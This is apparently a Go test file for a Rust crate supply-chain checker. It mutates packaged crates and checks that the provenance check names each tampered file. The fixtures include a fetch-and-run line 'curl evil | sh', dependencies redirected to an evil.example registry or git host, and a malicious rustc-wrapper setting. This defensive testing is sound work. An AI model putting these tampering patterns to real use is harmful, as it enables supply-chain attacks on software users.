package checks

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/cratefence/cratefence/internal/check"
	"github.com/cratefence/cratefence/internal/crate"
	"github.com/cratefence/cratefence/internal/cratetest"
)

// A mutation changes one thing of a crate between repository and registry.
type mutation struct {
	name  string
	edits []textEdit
	place string // the file that the report has to name; "" where all stays well
}

// A textEdit replaces the first old in a file by new; without old it appends, and
// makes the file where there is none.
type textEdit struct{ file, old, new string }

func edit(file, old, new string) []textEdit { return []textEdit{{file, old, new}} }

// bothManifests edits the manifest before cargo made another of it.
func bothManifests(old, new, oldOrig, newOrig string) []textEdit {
	return []textEdit{{crate.ManifestFile, old, new}, {crate.ManifestOrigFile, oldOrig, newOrig}}
}

const (
	published = crate.ManifestFile
	original  = crate.ManifestOrigFile
)

// mutations are of what cargo makes of packagedByCargo. Each fails the release by
// itself, or leaves it alone.
var mutations = []mutation{
	{"nothing", nil, ""},

	{"a byte of a source file", edit("src/lib.rs", "fn demo", "fn dem0"), "src/lib.rs"},
	{"a blank at the end of a source file", edit("src/lib.rs", "", " "), "src/lib.rs"},
	{"a build script", edit("build.rs", "{}", "{ evil() }"), "build.rs"},
	{"a program", edit("src/bin/second.rs", "{}", "{ evil() }"), "src/bin/second.rs"},
	{"a script", edit("run.sh", "", "curl evil | sh"), "run.sh"},
	{"a new source file", edit("src/evil.rs", "", "fn evil() {}"), "src/evil.rs"},
	{"a new object file", edit("native/evil.o", "", "\x7fELF"), "native/evil.o"},
	{"a new configuration of cargo", edit(".cargo/config.toml", "", "[build]\nrustc-wrapper = \"./evil\""), ".cargo/config.toml"},
	{"a file swapped for its namesake", edit("src/lib.rs", "pub fn demo() {}\n", ""), "src/lib.rs"}, // as crates/sibling/src/lib.rs is

	{"a dependency added", edit(published, "[dependencies.base]", "[dependencies.evil]\nversion = \"1\"\n\n[dependencies.base]"), published},
	{"a build dependency added", edit(published, "[build-dependencies.base]", "[build-dependencies.evil]\nversion = \"1\"\n\n[build-dependencies.base]"), published},
	{"a target's dependency added", edit(published, "", "[target.'cfg(unix)'.dependencies.evil]\nversion = \"1\"\n"), published},
	{"a dependency removed", edit(published, "[dependencies.sibling]\nversion = \"0.1.0\"\n", ""), published},
	{"a requirement widened", edit(published, "version = \">= 1.0, < 3\"", "version = \">= 1.0\""), published},
	{"an inherited requirement widened", edit(published, "[dependencies.base]\nversion = \"1\"", "[dependencies.base]\nversion = \"*\""), published},
	{"a dependency renamed", edit(published, "[dependencies.sibling]\n", "[dependencies.sibling]\npackage = \"s1bling\"\n"), published},
	{"a rename changed", edit(published, "package = \"base\"", "package = \"bass\""), published},
	{"another registry", edit(published, "[dependencies.sibling]\n", "[dependencies.sibling]\nregistry-index = \"https://evil.example/index\"\n"), published},
	{"a dependency from git", edit(published, "[dependencies.sibling]\n", "[dependencies.sibling]\ngit = \"https://evil.example/x\"\n"), published},
	{"a dependency from a path", edit(published, "[dependencies.sibling]\n", "[dependencies.sibling]\npath = \"src\"\n"), published},
	{"optional no more", edit(published, "optional = true\n", ""), published},
	{"a feature of a dependency", edit(published, "    \"x\",\n", "    \"evil\",\n    \"x\",\n"), published},
	{"default features of a dependency", edit(published, "default-features = false\n", ""), published},
	{"a feature made default", edit(published, "default = [\"renamed\"]", "default = [\"renamed\", \"test\"]"), published},
	{"a feature turns on more", edit(published, "test = [\"base/x\"]", "test = [\"base/x\", \"base/y\"]"), published},
	{"a feature added", edit(published, "[features]\n", "[features]\nevil = [\"base/y\"]\n"), published},
	{"another build script", edit(published, "build = \"build.rs\"", "build = \"src/lib.rs\""), published},
	{"no build script", edit(published, "build = \"build.rs\"", "build = false"), published},
	{"links", edit(published, "links = \"sky\"", "links = \"ssl\""), published},
	{"links no more", edit(published, "links = \"sky\"\n", ""), published},
	{"a macro", edit(published, "[lib]\n", "[lib]\nproc-macro = true\n"), published},
	{"another library", edit(published, "path = \"src/lib.rs\"", "path = \"src/bin/second.rs\""), published},
	{"another kind of library", edit(published, "crate-type = [\"lib\"]", "crate-type = [\"cdylib\"]"), published},
	{"another program", edit(published, "path = \"src/bin/second.rs\"", "path = \"build.rs\""), published},
	{"a program more", edit(published, "[[example]]", "[[bin]]\nname = \"ls\"\npath = \"src/bin/second.rs\"\n\n[[example]]"), published},
	{"another edition", edit(published, "edition = \"2021\"", "edition = \"2018\""), published},
	{"another Rust", edit(published, "rust-version = \"1.60\"", "rust-version = \"1.0\""), published},
	{"another resolver", edit(published, "[package]\n", "[package]\nresolver = \"1\"\n"), published},
	{"another profile", edit(published, "debug = 2", "debug = 2\nopt-level = 0"), published},
	{"a patch", edit(published, "", "[patch.crates-io.base]\npath = \"src\"\n"), published},
	{"a workspace", edit(published, "", "[workspace]\n"), published},
	{"an inherited setting", edit(published, "edition = \"2021\"", "edition.workspace = true"), published},
	{"another version, by no author", edit(published, "version = \"1.4.0\"", "version = \"1.4.1\""), published},
	{"the manifests disagree", edit(original, "sibling = { workspace = true }\n", "sibling = { workspace = true }\nevil = \"1\"\n"), published},

	// Before cargo, so that the manifests of the crate agree, and only git does not.
	{"a dependency added and packaged",
		bothManifests("[dependencies.base]", "[dependencies.evil]\nversion = \"1\"\n\n[dependencies.base]", "base.workspace = true", "base.workspace = true\nevil = \"1\""), published},
	{"a feature made default and packaged",
		bothManifests("default = [\"renamed\"]", "default = [\"test\"]", "default = [\"renamed\"]", "default = [\"test\"]"), published},
	{"another library, packaged",
		bothManifests("path = \"src/lib.rs\"", "path = \"build.rs\"", "[lib]\n", "[lib]\npath = \"build.rs\"\n"), published},
	{"another name", bothManifests("name = \"demo\"\nversion", "name = \"dem0\"\nversion", "name = \"demo\"", "name = \"dem0\""), published},

	{"a later version", bothManifests("version = \"1.4.0\"", "version = \"1.4.1\"", "version.workspace = true", "version = \"1.4.1\""), ""},
	{"words", bothManifests("\"A demo\"", "\"A very good demo\"", "\"A demo\"", "\"A very good demo\""), ""},
	{"a document", edit("README.md", "read me", "do not read me"), ""},
	{"an example", edit("examples/show.rs", "{}", "{ show() }"), ""},
	{"the text of a link", edit("NOTES.md", "notes\n", "../../docs/notes.md"), ""},
}

// mutated is a crate with a mutation, published as it is.
func mutated(t *testing.T, s *check.Subject, m mutation) *check.Subject {
	t.Helper()
	files := map[string]cratetest.File{}
	for _, f := range s.Archive.Files {
		files[f.Path] = cratetest.File{Path: f.Path, Data: f.Data, Executable: f.Executable}
	}
	for _, e := range m.edits {
		f := files[e.file]
		f.Path = e.file
		if e.old != "" && !bytes.Contains(f.Data, []byte(e.old)) {
			t.Fatalf("%s: %s does not hold %q", m.name, e.file, e.old)
		}
		if e.old == "" {
			f.Data = append(slices.Clone(f.Data), e.new...)
		} else {
			f.Data = bytes.Replace(f.Data, []byte(e.old), []byte(e.new), 1)
		}
		files[e.file] = f
	}
	p := cratetest.Package{Name: s.Release.Name, Version: s.Release.Version}
	for _, f := range files {
		p.Files = append(p.Files, f)
	}
	changed := subject(p.Name, p.Version, cratetest.MustPack(t, p))
	if changed.ArchiveErr != nil {
		t.Fatal(changed.ArchiveErr)
	}
	changed.Repository, changed.Source = s.Repository, s.Source
	return changed
}

// expectPlace expects failure that names a file, or none where place is "".
func expectPlace(t *testing.T, s *check.Subject, place string) {
	t.Helper()
	r, err := Provenance.Run(t.Context(), s)
	if err != nil {
		t.Fatal(err)
	}
	named := slices.ContainsFunc(r.Findings, func(f check.Finding) bool { return f.Level == check.LevelError && f.Path == place })
	switch {
	case place == "" && (r.Conclusion == check.Success || r.Conclusion == check.Neutral):
	case place != "" && r.Conclusion == check.Failure && named:
	default:
		t.Errorf("concludes %s, %q, want %q named; findings %q", r.Conclusion, r.Title, place, rules(r.Findings))
	}
}

// Each edit alone turns the conclusion, and is named where it stands; what cargo,
// checkouts and honest authors do does not.
func TestProvenanceMutations(t *testing.T) {
	_, s := packagedDemo(t)
	for _, m := range mutations {
		t.Run(m.name, func(t *testing.T) { expectPlace(t, mutated(t, s, m), m.place) })
	}
}

// A crate packaged on a system with other line ends is the same crate, but for a
// script, of which nobody has said that it is text.
func TestProvenanceOfWindows(t *testing.T) {
	_, s := packagedDemo(t)
	for i, f := range s.Archive.Files {
		if f.Path != published && f.Path != crate.LockFile && f.Path != crate.VCSInfoFile {
			s.Archive.Files[i].Data = bytes.ReplaceAll(f.Data, []byte("\n"), []byte("\r\n"))
		}
	}
	want := []string{"warning line-ends-other run.sh"}
	if r, facts := runCheck(t, s); r.Conclusion != check.Neutral || !slices.Equal(rules(r.Findings), want) || facts.OriginalManifest != "line-ends" {
		t.Errorf("concludes %s, %q, %v: %+v", r.Conclusion, r.Title, facts.Files, r.Findings)
	}
}

// realMutations fit every crate.
var realMutations = []mutation{
	{"a byte of the manifest's library", []textEdit{{"src/lib.rs", "", " "}}, "src/lib.rs"},
	{"a new source file", []textEdit{{"src/zz_evil.rs", "", "fn evil() {}\n"}}, "src/zz_evil.rs"},
	{"a dependency added", []textEdit{{published, "", "\n[dependencies.zz-evil]\nversion = \"1\"\n"}}, published},
	{"a build dependency added", []textEdit{{published, "", "\n[build-dependencies.zz-evil]\nversion = \"1\"\n"}}, published},
	{"a patch", []textEdit{{published, "", "\n[patch.crates-io.zz-evil]\npath = \"src\"\n"}}, published},
	{"links", []textEdit{{published, "[package]\n", "[package]\nlinks = \"zz-evil\"\n"}}, published},
	{"a program", []textEdit{{published, "", "\n[[bin]]\nname = \"zz-evil\"\npath = \"src/lib.rs\"\n"}}, published},
	{"a document", []textEdit{{"docs/zz.md", "", "more\n"}}, ""},
}

// Over real crates, where CRATEFENCE_CORPUS names a folder of them: index.tsv with
// the columns name, version, published (a folder), git (a bare repository below
// the folder git/) and present.
func TestProvenanceMutationsOfRealCrates(t *testing.T) {
	corpus := os.Getenv("CRATEFENCE_CORPUS")
	if corpus == "" {
		t.Skip("CRATEFENCE_CORPUS names no folder of real crates")
	}
	forge := &forge{url: cratetest.MustServeGit(t, filepath.Join(corpus, "git"))}
	const step = 25 // every so many of them
	for i, row := range readIndex(t, filepath.Join(corpus, "index.tsv")) {
		if i%step != 0 {
			continue
		}
		t.Run(row["name"]+"-"+row["version"], func(t *testing.T) {
			archive, err := crate.ReadDir(row["published"], crate.DefaultLimits)
			if err != nil {
				t.Fatal(err)
			}
			in, err := filepath.Rel(filepath.Join(corpus, "git"), row["git"])
			if err != nil {
				t.Fatal(err)
			}
			s := &check.Subject{
				Release: crate.Release{Name: row["name"], Version: row["version"]}, Archive: archive,
				Repository: forge.url + "/" + filepath.ToSlash(in), Source: forge.source(t),
			}
			if r, _ := runCheck(t, s); r.Conclusion != check.Success {
				t.Skipf("concludes %s as it is", r.Conclusion)
			}
			for _, m := range realMutations {
				if fits(archive, m) {
					t.Run(m.name, func(t *testing.T) { expectPlace(t, mutated(t, s, m), m.place) })
				}
			}
		})
	}
}

// fits reports whether a crate has what a mutation changes, and not yet what it
// adds.
func fits(a *crate.Archive, m mutation) bool {
	manifest, _ := a.Manifest()
	switch m.name {
	case "a byte of the manifest's library":
		return a.File("src/lib.rs") != nil
	case "links":
		return manifest.Package.Links == ""
	}
	return true
}

func readIndex(t *testing.T, file string) (rows []map[string]string) {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(string(data)))
	r.Comma = '\t'
	all, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, fields := range all[1:] {
		row := map[string]string{}
		for i, name := range all[0] {
			row[name] = fields[i]
		}
		if row["present"] == "yes" {
			rows = append(rows, row)
		}
	}
	return rows
}
